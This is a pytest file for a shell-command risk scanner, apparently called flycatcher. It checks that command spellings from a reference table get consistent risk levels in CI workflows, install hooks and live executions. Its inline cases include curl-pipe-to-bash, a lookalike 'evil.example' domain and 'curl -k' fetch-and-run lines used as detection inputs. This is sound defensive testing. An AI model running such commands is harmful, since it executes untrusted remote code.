"""One act, one level: each spelling in the reference's table, from each command."""

import json
import re
from pathlib import Path

import pytest

from flycatcher.commands.check.settings import CheckSettings
from flycatcher.commands.check.stream import shell_answer
from flycatcher.core.detection import detect
from flycatcher.core.execution import Execution
from flycatcher.core.payload.origins import accept
from flycatcher.core.shell import read_shell
from flycatcher.scanning.engine import scan_bytes

PAGE = Path(__file__).parents[2] / "docs" / "reference" / "acts.md"
_ROW = re.compile(
    r"^\| (?P<act>[^|]+) \| (?P<level>none|low|medium|high|critical) \| (?P<spellings>`.*`) \|$", re.MULTILINE
)
ACTS = [
    (row["level"], spelling.replace("\\|", "|"))
    for row in _ROW.finditer(PAGE.read_text(encoding="utf-8"))
    for spelling in row["spellings"][1:-1].split("`<br>`")
]


def scanned(text):
    """Return the worst level that a scan finds in a workflow whose step is this text."""
    step = {"shell": "bash", "run": text}
    workflow = {"on": "push", "jobs": {"build": {"runs-on": "ubuntu-24.04", "steps": [step]}}}
    found = scan_bytes(".github/workflows/ci.yml", json.dumps(workflow).encode()).findings
    worst = max((finding.detection.risk for finding in found), key=lambda risk: risk.score, default=None)
    return worst.level if worst is not None else "none"


def hook(text):
    """Return the worst level that a scan finds in a package whose install hook is this text."""
    found = scan_bytes("package.json", json.dumps({"scripts": {"postinstall": text}}).encode()).findings
    return max((finding.detection.risk.score, finding.detection.risk.level) for finding in found)[1]


@pytest.mark.parametrize("text", [text for level, text in ACTS if level == "critical"])
def test_an_install_hook_that_is_loud_by_itself_is_found(text):
    assert hook(text) == "critical"


def test_the_page_has_its_tables():
    assert len(ACTS) > 40
    assert {level for level, _text in ACTS} == {"low", "medium", "high", "critical"}


@pytest.mark.parametrize(("level", "text"), ACTS)
def test_a_spelling_gets_its_acts_level_from_every_command(level, text):
    assert shell_answer(text, CheckSettings()).risk["level"] == level
    assert scanned(text) == level


@pytest.mark.parametrize(("level", "text"), [(level, text) for level, text in ACTS if level != "low"])
def test_the_text_of_a_shell_gets_the_level_that_it_gets_when_it_is_written(level, text):
    found = detect(Execution(argv=("bash", "-c", text), exe="/usr/bin/bash"))
    assert found is not None
    assert found.risk.level == level


@pytest.mark.parametrize(("level", "text"), [(level, text) for level, text in ACTS if level != "low"])
def test_a_shell_and_what_it_starts_get_the_level_when_each_is_seen_by_itself(level, text):
    shell = Execution(argv=("bash", "-c", text), exe="/usr/bin/bash")
    found = [detect(each, live=True) for each in (shell, *read_shell(text).executions)]
    worst = max((each.risk for each in found if each is not None), key=lambda risk: risk.score)
    assert worst.level == level


def test_an_accepted_installer_is_low_however_it_is_spelled():
    accept(["https://get.example.org/"])
    try:
        for text in ("curl https://get.example.org/i | bash", 'python3 -c "$(curl https://get.example.org/i)"'):
            assert scanned(text) == "low"
            found = detect(Execution(argv=("bash", "-c", text), exe="/usr/bin/bash"), shells=True)
            assert found is not None
            assert found.risk.level == "low"
        assert scanned("curl https://get.example.org.evil.example/i | bash") == "medium"
        assert scanned("curl -k https://get.example.org/i | bash") == "high"
    finally:
        accept([])
